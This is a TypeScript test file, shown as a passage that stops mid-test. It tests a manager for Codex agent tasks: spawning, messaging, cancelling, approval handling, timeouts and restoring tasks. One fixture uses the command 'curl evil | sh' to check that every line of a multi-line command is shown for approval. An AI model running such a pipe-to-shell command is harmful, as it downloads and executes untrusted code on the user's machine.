import { tmpdir } from 'node:os';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import fc from 'fast-check';
import { CallError } from '../../src/core/errors';
import { type Answer, declined, type RequestQuestion } from '../../src/core/pendingRequest';
import type { StoredTask, WorkerSettings } from '../../src/core/ports';
import type { TaskSnapshot } from '../../src/core/taskSnapshot';
import { person } from '../../src/core/caller';
import { TaskManager } from '../../src/core/taskManager';
import { FakeAgent, type FakeThread } from '../fakes/fakeAgent';
import { FakeJournal } from '../fakes/fakeJournal';
import { base, command } from '../fakes/snapshots';
import { testSettings } from '../rig/codexRig';

const accept: Answer = { kind: 'decision', decision: 'accept' };
const asPerson = { by: 'person', caller: 'person' } as const;
const asAgent = { by: 'agent', caller: 'caller' } as const;
const toolCall = { tool: 'drop', description: null, arguments: {} };
const approvals: readonly RequestQuestion[] = [
  command('ls'),
  { type: 'file_approval', changes: [], reason: null },
  {
    type: 'permission_approval',
    permissions: { network: { enabled: true } },
    summary: ['use the network'],
    reason: null,
  },
  {
    type: 'elicitation', serverName: 'db', mode: 'form', message: 'Allow it?', schema: {}, url: null, toolCall,
    forPerson: true, forSession: true, rules: [],
  }, // prettier-ignore
];

let agent: FakeAgent;
let journal: FakeJournal;
let tasks: TaskManager;
const announced: string[] = [];

function manager(settings: Partial<WorkerSettings> = {}, stopLimitMs = 5_000): TaskManager {
  return new TaskManager({
    agent,
    journal,
    settings: testSettings(tmpdir(), settings),
    log: () => undefined,
    stopLimitMs,
    onFirstWritableTask: (cwd) => announced.push(cwd),
  });
}

beforeEach(() => {
  agent = new FakeAgent();
  journal = new FakeJournal();
  tasks = manager();
});
afterEach(() => {
  tasks.dispose();
  vi.useRealTimers();
  announced.length = 0;
});

/** A spawned task whose first turn runs. */
async function running(more: object = {}): Promise<{ id: string; thread: FakeThread }> {
  const { id } = await tasks.spawn({ prompt: 'do it', ...more }, 'caller');
  await vi.waitFor(() => expect(tasks.get(id).turns).toBe(1));
  return { id, thread: agent.threads.at(-1)! };
}

describe('a task', () => {
  it('is submitted at once, works when its turn has started, and completes when nothing is left', async () => {
    const spawned = await tasks.spawn({ prompt: 'do it\nand more', labels: ['a'] }, 'caller');
    expect(spawned).toMatchObject({ status: 'submitted', title: 'do it …', labels: ['a'], spawnedBy: 'caller' });
    await vi.waitFor(() => expect(tasks.get(spawned.id).status).toBe('working'));
    const [thread] = agent.threads;
    let letGo: () => void = () => undefined;
    thread!.settling = new Promise((resolve) => (letGo = resolve));
    thread!.say('done');
    thread!.end();
    expect(tasks.get(spawned.id)).toMatchObject({ status: 'working', stopping: true, finalMessage: 'done' });
    letGo();
    await vi.waitFor(() => expect(tasks.get(spawned.id)).toMatchObject({ status: 'completed', stopping: false }));
    expect(journal.metas.at(-1)).toMatchObject({ status: 'completed' });
    expect(journal.text(spawned.id, 'summary')).toMatch(/^\[\d\d:\d\d:\d\d\] turn started\n\[.*\] agent done\n/);
  });

  it('fails with the reason when its thread cannot be opened, and cannot be messaged', async () => {
    agent.opening = Promise.reject(new CallError('codex_unavailable', 'No.', { hint: 'Try later.' }));
    agent.opening.catch(() => undefined);
    const { id } = await tasks.spawn({ prompt: 'do it' }, 'caller');
    await vi.waitFor(() =>
      expect(tasks.get(id)).toMatchObject({ status: 'failed', error: { message: 'No.', hint: 'Try later.' } }),
    );
    await expect(tasks.message(id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
      code: 'not_active',
    });
  });

  it('is not made when Codex cannot be used', async () => {
    agent.trouble = new CallError('codex_not_logged_in', 'Not logged in.', { hint: 'Log in.' });
    await expect(tasks.spawn({ prompt: 'do it' }, 'caller')).rejects.toMatchObject({ code: 'codex_not_logged_in' });
    expect(tasks.snapshots()).toEqual([]);
  });

  it('reports what its end could not attribute or end', async () => {
    const { id, thread } = await running();
    thread.report = {
      killed: [{ pid: 1, command: 'a' }],
      alive: [{ pid: 2, command: 'b' }],
      unattributed: [{ pid: 3, command: 'c' }],
    };
    thread.end();
    await vi.waitFor(() =>
      expect(tasks.get(id).leftovers).toEqual([
        { pid: 2, command: 'b' },
        { pid: 3, command: 'c' },
      ]),
    );
    expect(journal.text(id, 'verbose')).toContain('[warning] process 3 may be of this task and was left alone: c');
    expect(tasks.get(id)).toMatchObject({ status: 'working', stopping: true, endedAt: null });
    thread.report = { killed: [], alive: [], unattributed: [] };
    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ status: 'completed', leftovers: [] }));
  });

  it('with a process that cannot be ended is not called cancelled until it is gone', async () => {
    tasks.dispose();
    tasks = manager({}, 200);
    const { id, thread } = await running();
    const dead = await running();
    thread.report = { killed: [], alive: [{ pid: 77, command: 'stuck' }], unattributed: [] };
    const cancelling = tasks.cancel([id, dead.id]);
    const refused = expect(cancelling).rejects.toMatchObject({
      message: `Not everything could be ended: ${id}: process 77 (stuck).`,
      retryable: true,
    });
    await refused;
    expect(tasks.get(dead.id).status).toBe('cancelled');
    expect(tasks.get(id)).toMatchObject({ status: 'working', activity: 'stopping: process 77 is still alive' });
    thread.report = { killed: [], alive: [], unattributed: [] };
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('cancelled'), 5_000);
  });

  it('that is cancelled and forgotten before its thread was made leaves nothing behind', async () => {
    let open: () => void = () => undefined;
    agent.opening = new Promise((resolve) => (open = resolve));
    const { id } = await tasks.spawn({ prompt: 'do it', keepAliveMs: 0 }, 'caller');
    await vi.waitFor(() => expect(agent.specs).toHaveLength(1));
    await tasks.cancel([id]);
    await vi.waitFor(() => expect(tasks.tryGet(id)).toBeUndefined());
    open();
    await vi.waitFor(() => expect(agent.threads[0]?.disposed).toBe(true));
    agent.threads[0]!.sink.onRaw('{"method":"thread/started"}', null);
    expect(journal.text(id, 'events')).toBe('');
  });

  it('settles once more when Codex ran another turn meanwhile', async () => {
    const { id, thread } = await running();
    let letGo: () => void = () => undefined;
    thread.settling = new Promise((resolve) => (letGo = resolve));
    thread.end();
    thread.begin();
    thread.end();
    letGo();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    expect(thread.settles).toBe(2);
  });

  it('that was cancelled stays dead when Codex starts a turn by itself', async () => {
    const { id, thread } = await running();
    await tasks.cancel([id]);
    thread.begin();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('cancelled'));
    expect(thread.stops).toBe(2);
  });

  it('ends with timeout after its time', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'] });
    const { id } = await tasks.spawn({ prompt: 'do it', timeoutMs: 5_000 }, 'caller');
    await vi.advanceTimersByTimeAsync(4_999);
    expect(tasks.get(id).status).toBe('working');
    await vi.advanceTimersByTimeAsync(1);
    expect(tasks.get(id)).toMatchObject({ status: 'failed', error: { code: 'timeout' } });
  });

  it('is forgotten after its keep_alive, and kept when a message came', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'] });
    const first = await tasks.spawn({ prompt: 'do it', keepAliveMs: 1_000 }, 'caller');
    const second = await tasks.spawn({ prompt: 'do it', keepAliveMs: 1_000 }, 'caller');
    await vi.advanceTimersByTimeAsync(1);
    for (const thread of agent.threads) thread.end();
    await vi.advanceTimersByTimeAsync(500);
    await tasks.message(second.id, { text: 'more', mode: 'auto' }, 'caller');
    await vi.advanceTimersByTimeAsync(600);
    expect(tasks.snapshots().map((task) => task.id)).toEqual([second.id]);
    await expect(tasks.message(first.id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
      code: 'not_found',
    });
  });
});

describe('a message', () => {
  it('steers an active turn, waits behind it, or starts the next one', async () => {
    const { id, thread } = await running();
    expect(await tasks.message(id, { text: 'steer', mode: 'auto' }, 'caller')).toMatchObject({ delivered: 'steered' });
    expect(await tasks.message(id, { text: 'later', mode: 'queue' }, 'caller')).toMatchObject({
      delivered: 'queued',
      task: { queuedMessages: 1 },
    });
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ turns: 2, queuedMessages: 0, status: 'working' }));
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    expect(await tasks.message(id, { text: 'next', mode: 'auto' }, 'caller')).toMatchObject({
      delivered: 'new_turn',
      task: { status: 'working' },
    });
    expect(thread.inputs.map((input) => input.text)).toEqual(['do it', 'later', 'next']);
    expect(thread.steered).toEqual(['steer']);
  });

  it('of two at once starts one turn and queues the other', async () => {
    const { id, thread } = await running();
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    const both = await Promise.all(['a', 'b'].map((text) => tasks.message(id, { text, mode: 'queue' }, 'caller')));
    expect(both.map(({ delivered }) => delivered)).toEqual(['new_turn', 'queued']);
  });

  it('with a model waits for the next turn', async () => {
    const { id, thread } = await running();
    expect(await tasks.message(id, { text: 'x', mode: 'auto', model: 'm2' }, 'caller')).toMatchObject({
      delivered: 'queued',
    });
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).model).toBe('m2'));
  });

  it('beyond 50 in the queue is refused, and a cancel drops the queue', async () => {
    const { id } = await running();
    for (let count = 0; count < 50; count++) await tasks.message(id, { text: 'x', mode: 'queue' }, 'caller');
    await expect(tasks.message(id, { text: 'x', mode: 'queue' }, 'caller')).rejects.toMatchObject({
      code: 'queue_full',
    });
    await tasks.cancel([id]);
    expect(tasks.get(id)).toMatchObject({ status: 'cancelled', queuedMessages: 0 });
  });
});

describe('a cancel', () => {
  it('names each id once, in the order given', async () => {
    const [one, two] = [await running(), await running()];
    two.thread.end();
    await vi.waitFor(() => expect(tasks.get(two.id).status).toBe('completed'));
    expect(await tasks.cancel(['no-such-1', two.id, one.id, one.id, 'no-such-1'])).toEqual({
      cancelled: [one.id],
      alreadyTerminal: [two.id],
      notFound: ['no-such-1'],
    });
  });

  it('of a task that is settling leaves its outcome alone', async () => {
    const { id, thread } = await running();
    let letGo: () => void = () => undefined;
    thread.settling = new Promise((resolve) => (letGo = resolve));
    thread.end();
    const cancelling = tasks.cancel([id]);
    letGo();
    expect(await cancelling).toEqual({ cancelled: [], alreadyTerminal: [id], notFound: [] });
    expect(tasks.get(id).status).toBe('completed');
  });

  it('of a task that has no thread yet ends it, and the thread is given back when it comes', async () => {
    let open: () => void = () => undefined;
    agent.opening = new Promise((resolve) => (open = resolve));
    const { id } = await tasks.spawn({ prompt: 'do it' }, 'caller');
    await vi.waitFor(() => expect(agent.specs).toHaveLength(1));
    expect(await tasks.cancel([id])).toMatchObject({ cancelled: [id] });
    open();
    await vi.waitFor(() => expect(agent.threads[0]?.settles).toBe(1));
    expect(agent.threads[0]?.inputs).toEqual([]);
    expect(tasks.get(id).status).toBe('cancelled');
  });
});

describe('a request', () => {
  it('is answered once; the second answer learns who was first', async () => {
    const { id, thread } = await running();
    thread.ask();
    expect(tasks.get(id)).toMatchObject({ status: 'input_required', pending: [{ id: 'r1', question: command('ls') }] });
    await tasks.respond(id, undefined, declined, asPerson);
    await expect(tasks.respond(id, 'r1', accept, asAgent)).rejects.toMatchObject({
      code: 'already_answered',
      message: 'Request r1 was already answered by the person: declined.',
    });
    expect(thread.answers).toEqual([declined]);
    expect(tasks.get(id)).toMatchObject({
      status: 'working',
      pending: [],
      answered: { by: 'person', outcome: 'declined' },
    });
  });

  it('needs its id when several are pending', async () => {
    const { id, thread } = await running();
    for (const key of ['0', '1']) thread.ask({ type: 'file_approval', changes: [], reason: null }, key);
    await expect(tasks.respond(id, undefined, accept, asPerson)).rejects.toThrow('several pending');
    await tasks.respond(id, 'r2', accept, asPerson);
    expect(tasks.get(id).pending.map((request) => request.id)).toEqual(['r1']);
    thread.sink.onRequestResolved('0');
    expect(tasks.get(id)).toMatchObject({ pending: [], answered: { id: 'r1', by: 'codex', outcome: 'withdrawn' } });
  });

  it.each(['never', 'ask'] as const)(
    'is not accepted by an agent when agentMayApprove is %s, but may be rejected',
    async (agentMayApprove) => {
      tasks.dispose();
      tasks = manager({ agentMayApprove: () => agentMayApprove });
      const { id, thread } = await running();
      for (const question of approvals) {
        thread.ask(question);
        const request = tasks.get(id).pending[0]!.id;
        const accepts: Answer[] = [accept, { kind: 'decision', decision: 'accept_for_session' }];
        if (question.type === 'elicitation') accepts.push({ kind: 'form', action: 'accept', content: {} });
        for (const answer of accepts) {
          await expect(tasks.respond(id, request, answer, asAgent)).rejects.toMatchObject({
            code: 'approval_required',
          });
        }
        await tasks.respond(id, request, declined, asAgent);
        expect(tasks.get(id).pending).toEqual([]);
      }
    },
  );

  it('never gets a lasting rule from an agent, whatever agentMayApprove says', async () => {
    const { id, thread } = await running();
    const rule = { kind: 'command', prefix: ['ls'] } as const;
    thread.ask({ ...command('ls'), rules: [rule] });
    await expect(tasks.respond(id, 'r1', { kind: 'rule', rule }, asAgent)).rejects.toMatchObject({
      code: 'approval_required',
    });
    const other: Answer = { kind: 'rule', rule: { kind: 'command', prefix: ['rm'] } };
    await expect(tasks.respond(id, 'r1', other, asPerson)).rejects.toThrow('Codex does not offer it');
    await tasks.respond(id, 'r1', { kind: 'rule', rule }, asPerson);
    expect(tasks.get(id).answered?.outcome).toBe('allowed for good: every command that begins with "ls"');
  });

  it('is declined at its time limit, never accepted, and the log says so', async () => {
    vi.useFakeTimers();
    try {
      tasks.dispose();
      tasks = manager({ requestTimeoutMs: () => 60_000 });
      const { id, thread } = await running();
      thread.ask();
      expect(tasks.get(id).pending[0]).toMatchObject({ expiresAt: Date.now() + 60_000 });
      await vi.advanceTimersByTimeAsync(59_999);
      expect(thread.answers).toEqual([]);
      await vi.advanceTimersByTimeAsync(1);
      expect(thread.answers).toEqual([declined]);
      expect(tasks.get(id)).toMatchObject({ status: 'working', answered: { by: 'timeout', outcome: 'declined' } });
      expect(journal.text(id, 'timeline')).toMatch(/ANSWER r1 by its time limit: declined/);
    } finally {
      vi.useRealTimers();
    }
  });

  it('that comes when no turn runs is declined at once', async () => {
    const { id, thread } = await running();
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    thread.ask();
    expect(thread.answers).toEqual([declined]);
    expect(tasks.get(id)).toMatchObject({ status: 'completed', pending: [] });
  });

  it('whose turn ends before the answer arrives says that the answer was too late', async () => {
    const { id, thread } = await running();
    const answers: Answer[] = [];
    const question = command('ls');
    thread.sink.onRequest({ key: '0', turnId: 't1', question, answer: (answer) => answers.push(answer) });
    const late = expect(tasks.respond(id, 'r1', accept, asPerson)).rejects.toMatchObject({
      code: 'already_answered',
      message: 'The answer to request r1 reached Codex too late: its turn had ended.',
    });
    thread.end('interrupted');
    await late;
    expect(answers).toEqual([accept]);
    expect(journal.text(id, 'verbose')).toContain('[warning] the answer to r1 reached Codex too late');
  });

  it('is withdrawn by a stop of its task, and a later answer learns it', async () => {
    const { id, thread } = await running();
    thread.ask();
    await tasks.cancel([id]);
    expect(thread.answers).toEqual([]);
    await expect(tasks.respond(id, 'r1', accept, asPerson)).rejects.toThrow(
      'Request r1 was withdrawn by the end of its turn, so nobody waits for an answer.',
    );
  });

  it('is declined when another request of its turn was answered with the end of the turn', async () => {
    const { id, thread } = await running();
    for (const key of ['0', '1']) thread.ask(command('ls'), key);
    const cancel: Answer = { kind: 'decision', decision: 'cancel' };
    await tasks.respond(id, 'r1', cancel, asPerson);
    await expect(tasks.respond(id, 'r2', accept, asPerson)).rejects.toMatchObject({
      code: 'already_answered',
      message: 'Request r2 was declined by the end of its turn, so nobody waits for an answer.',
    });
    expect(thread.answers).toEqual([cancel, declined]);
  });

  it('ends in one outcome when a person and an agent answer at the same moment, 200 times', async () => {
    const { id, thread } = await running();
    const session: Answer = { kind: 'decision', decision: 'accept_for_session' };
    for (let round = 1; round <= 200; round++) {
      thread.ask(command('ls'), String(round));
      const request = `r${round}`;
      const answering = {
        person: () => tasks.respond(id, request, accept, asPerson),
        agent: () => tasks.respond(id, request, session, asAgent),
      };
      const order = round % 2 ? (['person', 'agent'] as const) : (['agent', 'person'] as const);
      const settled = await Promise.allSettled(order.map((who) => answering[who]()));
      expect(settled.map(({ status }) => status)).toEqual(['fulfilled', 'rejected']);
      expect(thread.answers).toHaveLength(round);
      expect(thread.answers.at(-1)).toEqual(order[0] === 'person' ? accept : session);
      expect(tasks.get(id).answers.at(-1)).toMatchObject({ id: request, by: order[0] });
    }
  });

  it('is never both unanswered and unowned, whatever comes in which order', async () => {
    const step = fc.constantFrom(
      'ask',
      'person',
      'agent',
      'cancelTurn',
      'resolved',
      'expire',
      'end',
      'begin',
      'stop',
      'lost',
      'message',
      'tick',
    );
    const crash = { code: 'codex_crashed', message: 'x', retryable: true, hint: 'y' } as const;
    const arbitraries = [fc.array(step, { maxLength: 40 }), fc.constantFrom('ask', 'continue', 'fail')] as const;
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'] });
    await fc.assert(
      fc.asyncProperty(...arbitraries, async (steps, recovery) => {
        tasks.dispose();
        tasks = manager({ requestTimeoutMs: () => 60_000, recovery: () => recovery });
        const { id, thread } = await running();
        /** The answers that Codex got, by request; and the requests that it waits for no more. */
        const got = new Map<string, Answer[]>();
        const released = new Set<string>();
        const release = (): void => {
          for (const key of got.keys()) released.add(key);
        };
        const endTurn = thread.end.bind(thread);
        thread.end = (...how) => {
          release();
          endTurn(...how);
        };
        const known = (): string[] => {
          const { pending, answers } = tasks.get(id);
          return [...pending, ...answers].map((request) => request.id);
        };
        const newest = (): string => `r${known().length}`;
        const cancelTurn: Answer = { kind: 'decision', decision: 'cancel' };
        const perform: Record<string, () => void | Promise<void>> = {
          ask() {
            const answers: Answer[] = [];
            const key = `key ${got.size}`;
            const said = (answer: Answer): void => void answers.push(answer);
            thread.sink.onRequest({ key, turnId: 't1', question: command('ls'), answer: said });
            got.set(newest(), answers);
          },
          person: () => void tasks.respond(id, newest(), accept, asPerson).catch(() => undefined),
          agent: () => void tasks.respond(id, newest(), declined, asAgent).catch(() => undefined),
          cancelTurn: () => void tasks.respond(id, newest(), cancelTurn, asPerson).catch(() => undefined),
          resolved() {
            for (let index = 0; index < got.size; index++) thread.sink.onRequestResolved(`key ${index}`);
            release();
          },
          expire: () => void vi.advanceTimersByTime(60_000),
          end: () => thread.end(),
          begin: () => thread.begin(),
          // The fake thread ends its turn when it is stopped, as Codex does.
          stop: () => void tasks.cancel([id]),
          lost() {
            thread.sink.onLost(crash);
            release();
          },
          message: () => void tasks.message(id, { text: 'x', mode: 'auto' }, 'caller').catch(() => undefined),
          tick: () => new Promise(setImmediate),
        };
        for (const one of steps) {
          await perform[one]!();
          const task = tasks.get(id);
          const pending = task.pending.map((request) => request.id);
          expect(task.status === 'input_required').toBe(pending.length > 0);
          // Each is known once: those of Codex, and the worker's own question whether to go on.
          expect(new Set(known()).size).toBe(known().length);
          for (const [key, answers] of got) {
            expect(answers.length).toBeLessThanOrEqual(1);
            expect(known()).toContain(key);
            expect(pending.includes(key) || answers.length === 1 || released.has(key), `${key} after ${one}`).toBe(
              true,
            );
          }
        }
        await tasks.cancel([id]);
        expect(tasks.get(id).pending).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it('to go on is refused where no turn may start: without trust, and without leave for full access', async () => {
    tasks.dispose();
    let trusted = true;
    let allowed = true;
    tasks = manager({ recovery: () => 'continue', trusted: () => trusted, allowFullAccess: () => allowed });
    const { id, thread } = await running({ sandbox: 'danger-full-access' });
    trusted = false;
    const crash = { code: 'codex_crashed', message: 'x', retryable: true, hint: 'y' } as const;
    thread.sink.onLost(crash);
    await vi.waitFor(() => expect(tasks.get(id).pending).toMatchObject([{ question: { type: 'recovery' } }]));
    await expect(tasks.respond(id, 'r1', accept, asPerson)).rejects.toMatchObject({ code: 'workspace_not_trusted' });
    trusted = true;
    allowed = false;
    await expect(tasks.respond(id, 'r1', accept, asAgent)).rejects.toMatchObject({ code: 'full_access_not_allowed' });
    expect(thread.inputs).toHaveLength(1);
    await tasks.respond(id, 'r1', accept, { by: 'person', caller: person });
    expect(thread.inputs).toHaveLength(2);
  });
});

it('the key of a task that is gone starts nothing', async () => {
  const request = { prompt: 'do it', idempotencyKey: 'k', keepAliveMs: 0 };
  const { id } = await tasks.spawn(request, 'caller');
  await tasks.cancel([id]);
  await vi.waitFor(() => expect(tasks.tryGet(id)).toBeUndefined());
  await expect(tasks.spawn(request, 'caller')).rejects.toMatchObject({
    code: 'not_found',
    message: `idempotency_key: its task ${id} has ended and is not kept any more.`,
  });
});

describe('what was found once', () => {
  const question = command('npm test\ncurl evil | sh');

  it('an approval shows every line of its command', async () => {
    const { id, thread } = await running();
    thread.ask(question);
    expect(tasks.get(id).activity).toBe('asks to run: npm test ⏎ curl evil | sh');
  });

  it('an older answer is still known, and a late one without an id learns of the last', async () => {
    const { id, thread } = await running();
    for (const key of ['0', '1']) thread.ask(question, key);
    for (const request of ['r1', 'r2']) await tasks.respond(id, request, declined, asPerson);
    await expect(tasks.respond(id, 'r1', accept, asAgent)).rejects.toThrow('Request r1 was already answered');
    await expect(tasks.respond(id, undefined, accept, asAgent)).rejects.toThrow('Request r2 was already answered');
  });

  it('an answer without an id does not reach a request that the agent was not told of', async () => {
    const { id, thread } = await running();
    thread.ask();
    await expect(tasks.respond(id, undefined, accept, asAgent)).rejects.toThrow('newer than what you were told');
    await tasks.wait({ caller: 'caller', about: [id], until: 'any', timeoutMs: 0 });
    expect(await tasks.respond(id, undefined, accept, asAgent)).toMatchObject({ id: 'r1' });
  });

  it('a turn that fails does not show the message and the plan of an earlier one', async () => {
    const { id, thread } = await running();
    thread.say('all tests pass');
    thread.sink.onEvent({ type: 'plan', steps: [{ step: 'look', status: 'completed' }] });
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    await tasks.message(id, { text: 'more', mode: 'auto' }, 'caller');
    thread.end('failed');
    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ status: 'failed', finalMessage: null, plan: [] }));
  });

  it('a queued message that is dropped is noted', async () => {
    const { id } = await running();
    await tasks.message(id, { text: 'and then this', mode: 'queue' }, 'caller');
    await tasks.cancel([id]);
    expect(journal.text(id, 'verbose')).toContain('[warning] a queued message was dropped: and then this');
  });

  it('a message is refused when the person has switched off what its task runs with', async () => {
    let allowed = true;
    tasks.dispose();
    tasks = manager({ allowFullAccess: () => allowed });
    const { id, thread } = await running();
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    allowed = false;
    await expect(tasks.message(id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
      code: 'full_access_not_allowed',
    });
  });

  it('the requests of a turn that Codex started while the last one settled stay open', async () => {
    const { id, thread } = await running();
    let letGo: () => void = () => undefined;
    thread.settling = new Promise((resolve) => (letGo = resolve));
    thread.end();
    thread.begin();
    thread.ask();
    letGo();
    await new Promise(setImmediate);
    expect(tasks.get(id)).toMatchObject({ status: 'input_required', pending: [{ id: 'r1' }] });
  });

  it('a removed task gives its thread back', async () => {
    const { id, thread } = await running();
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    tasks.remove(id);
    expect(thread.disposed).toBe(true);
  });
});

it('what the person does is told, and what agents do is not', async () => {
  const acts: [string, unknown][] = [];
  tasks.dispose();
  tasks = new TaskManager({
    agent,
    journal,
    settings: testSettings(tmpdir()),
    log: () => undefined,
    onPerson: (...act) => acts.push(act),
  });
  for (const [caller, by] of [
    ['person', 'person'],
    ['caller', 'agent'],
  ] as const) {
    const { id } = await tasks.spawn({ prompt: 'do it' }, caller);
    await vi.waitFor(() => expect(tasks.get(id).turns).toBe(1));
    agent.threads.at(-1)!.ask();
    await tasks.respond(id, 'r1', declined, { by, caller });
    await tasks.message(id, { text: 'more', mode: 'queue' }, caller);
    await tasks.cancel([id], caller);
  }
  expect(acts.map(([tool]) => tool)).toEqual(['spawn-task', 'respond-task', 'message-task', 'cancel-task']);
});

describe('tasks of an earlier run', () => {
  const request = { prompt: 'do it', keepAliveMs: 3_600_000, outputSchema: null, model: null, reasoning: null };
  const was = (id: string, more: Partial<TaskSnapshot>): StoredTask => ({
    snapshot: { ...base, id, cwd: tmpdir(), spawnedBy: 'caller', threadId: `thread of ${id}`, ...more },
    request,
    unsaid: { next: null, queue: [] },
    lostMessages: 0,
  });
  const ended = { status: 'completed', endedAt: Date.now() - 1_000, finalMessage: 'done', diff: '+x' } as const;

  it('come back as they were when they had ended, are no news, and go on with a message', async () => {
    journal.stored = [was('a-b-1', ended), was('a-b-2', { ...ended, endedAt: Date.now() - 3_600_001 })];
    await tasks.restore();
    expect(tasks.snapshots()).toMatchObject([{ id: 'a-b-1', status: 'completed', finalMessage: 'done', diff: '+x' }]);
    expect((await tasks.wait({ caller: 'caller', about: 'own', until: 'any', timeoutMs: 0 })).tasks).toEqual([]);
    expect([journal.metas, journal.removed]).toEqual([[], ['a-b-2']]);
    await tasks.message('a-b-1', { text: 'more', mode: 'auto' }, 'caller');
    expect(agent.threads[0]).toMatchObject({ id: 'thread of a-b-1', inputs: [{ text: 'more' }] });
    expect(tasks.get('a-b-1')).toMatchObject({ status: 'working', turns: 2 });
  });

  it('do not begin when their prompt held a secret, which is not kept', async () => {
    const queued = { status: 'submitted', threadId: null, turns: 0 } as const;
    journal.stored = [{ ...was('a-b-1', queued), request: { ...request, prompt: '[redacted]', isRedacted: true } }];
    await tasks.restore();
    await vi.waitFor(() => expect(tasks.get('a-b-1').status).toBe('failed'));
    expect(tasks.get('a-b-1').error).toMatchObject({
      code: 'bad_request',
      message: expect.stringContaining('held a secret') as string,
    });
    expect(agent.threads.flatMap(({ inputs }) => inputs)).toEqual([]);
  });

  it('are kept no longer, and may work no longer, than they were to when the clock was set back', async () => {
    vi.useFakeTimers();
    const dayMs = 24 * 3_600_000;
    const [later, limit] = [Date.now() + dayMs, 600_000];
    tasks.dispose();
    tasks = manager({ recovery: () => 'continue' });
    journal.stored = [
      was('a-b-1', { ...ended, endedAt: later }),
      { ...was('a-b-2', { startedAt: later }), request: { ...request, timeoutMs: limit } },
    ];
    await tasks.restore();
    await vi.advanceTimersByTimeAsync(limit);
    expect(tasks.get('a-b-2')).toMatchObject({ status: 'failed', error: { code: 'timeout' } });
    await vi.advanceTimersByTimeAsync(request.keepAliveMs - limit);
    expect(tasks.tryGet('a-b-1')).toBeUndefined();
  });

  it.each([
    ['ask', 'input_required'],
    ['continue', 'working'],
    ['fail', 'failed'],
  ] as const)('that were at work %s: they are %s', async (recovery, status) => {
    tasks.dispose();
    tasks = manager({ recovery: () => recovery });
    const pending = [{ id: 'r4', question: command('ls'), askedAt: 1, expiresAt: null }];
    journal.stored = [was('a-b-1', { status: 'input_required', pending })];
    await tasks.restore();
    await vi.waitFor(() => expect(tasks.get('a-b-1').status).toBe(status));
    const task = tasks.get('a-b-1');
    expect(task.answers).toMatchObject([{ id: 'r4', by: 'stop', outcome: 'withdrawn' }]);
    if (recovery !== 'ask') return;
    expect(task.pending).toMatchObject([
      { id: 'r5', question: { message: 'The window was closed in the middle of this turn. Continue in a new one?' } },
    ]);
    await tasks.respond('a-b-1', 'r5', accept, asAgent);
    expect(agent.threads[0]!.inputs[0]!.text).toMatch(/^The program that ran this turn stopped/);
  });

  it('that waited in the queue are started', async () => {
    journal.stored = [was('a-b-1', { status: 'submitted', turns: 0, threadId: null })];
    await tasks.restore();
    await vi.waitFor(() => expect(tasks.get('a-b-1')).toMatchObject({ status: 'working', turns: 1 }));
    expect(agent.threads[0]!.inputs).toMatchObject([{ text: 'do it' }]);
  });

  it.each([
    ['is completed', null, { status: 'completed', turns: 1 }],
    ['asks when another turn was wanted', { text: 'more' }, { status: 'input_required', turns: 1 }],
  ])('whose end was kept, and not that it ended: it %s', async (_, next, expected) => {
    agent.past = (thread) => {
      thread.begin();
      thread.end();
    };
    tasks.dispose();
    tasks = manager({ recovery: () => 'ask' });
    const input = next && { ...next, model: null, reasoning: null, planMode: false, outputSchema: null };
    journal.stored = [{ ...was('a-b-1', {}), unsaid: { next: input, queue: [] } }];
    await tasks.restore();
    await vi.waitFor(() => expect(tasks.get('a-b-1')).toMatchObject(expected));
  });

  it('say a message once whose turn began, although it was not kept that it did', async () => {
    agent.past = (thread) => {
      for (let turn = 1; turn <= 2; turn++) {
        thread.begin();
        thread.end();
      }
    };
    const next = { text: 'second', model: null, reasoning: null, planMode: false, outputSchema: null };
    journal.stored = [{ ...was('a-b-1', {}), unsaid: { next, queue: [] } }];
    await tasks.restore();
    await vi.waitFor(() => expect(tasks.get('a-b-1')).toMatchObject({ status: 'completed', turns: 2 }));
    expect(agent.threads[0]!.inputs).toEqual([]);
  });

  it('are left to the next run by one that goes away before it had them back', async () => {
    let letGo: () => void = () => undefined;
    agent.catchingUp = new Promise((resolve) => (letGo = resolve));
    journal.stored = [was('a-b-1', {}), was('a-b-2', { status: 'submitted', turns: 0, threadId: null })];
    const restored = tasks.restore();
    const suspended = tasks.suspend();
    letGo();
    await Promise.all([restored, suspended]);
    expect([journal.metas, agent.specs.length, agent.threads.flatMap(({ inputs }) => inputs)]).toEqual([[], 0, []]);
  });

  it('tell at the task that its files cannot be kept', async () => {
    const { id } = await running();
    journal.trouble(id, 'ENOSPC: no space left on device');
    expect(journal.text(id, 'verbose')).toContain('ENOSPC: no space left on device');
  });

  it('are left as they are when the worker goes away', async () => {
    const { id, thread } = await running();
    await tasks.suspend();
    expect([thread.stops, tasks.get(id).status, journal.metas.at(-1)?.status]).toEqual([1, 'working', 'working']);
    expect(journal.requests.get(id)).toMatchObject({ prompt: 'do it' });
    await expect(tasks.spawn({ prompt: 'late' }, 'caller')).rejects.toMatchObject({ code: 'shutting_down' });
  });
});

it('the oldest finished tasks are forgotten while the files of all take more than a gigabyte', async () => {
  vi.useFakeTimers();
  const ids: string[] = [];
  for (let index = 0; index < 4; index++) {
